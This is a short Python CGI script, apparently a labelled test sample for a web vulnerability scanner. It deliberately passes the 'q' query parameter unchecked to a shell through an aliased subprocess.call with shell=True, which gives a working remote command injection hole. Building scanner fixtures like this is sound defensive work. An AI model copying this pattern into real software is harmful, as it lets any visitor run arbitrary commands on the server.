#!/usr/bin/python3
# webhunt test sample (inert): a diagnostics page that hands the query string's "q" to the shell
# through an aliased subprocess.call(..., shell=True)
import os
import subprocess as runner
import urllib.parse

params = urllib.parse.parse_qs(os.environ.get("QUERY_STRING", ""))
print("Content-Type: text/plain\n")
runner.call(params["q"][0], shell=True)
